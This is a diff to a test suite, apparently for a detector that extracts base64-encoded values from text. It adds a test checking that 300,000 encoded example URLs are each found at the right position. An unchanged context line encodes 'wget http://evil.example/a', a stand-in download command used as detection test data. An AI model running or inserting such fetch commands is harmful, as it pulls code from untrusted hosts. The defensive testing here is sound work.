@@ -218,6 +218,17 @@ describe('encoded', () => {
     const [found] = extract(text);
     expect(text.slice(found?.start, found?.end)).toBe(btoa('wget http://evil.example/a').replace(/=+$/, ''));
   });
+
+  test('more of them than a call takes arguments are found, each where it stands', () => {
+    const lines = Array.from({ length: 300_000 }, (_, n) => btoa(`http://host-${n}.example/a`));
+    const text = lines.join('\n');
+    const found = extract(text);
+    expect(found).toHaveLength(lines.length);
+    expect(found.at(-1)).toMatchObject({
+      value: 'http://host-299999.example/a',
+      start: text.length - lines.at(-1)!.length,
+    });
+  }, 30_000);
 });
 
 describe('where a value ends', () => {
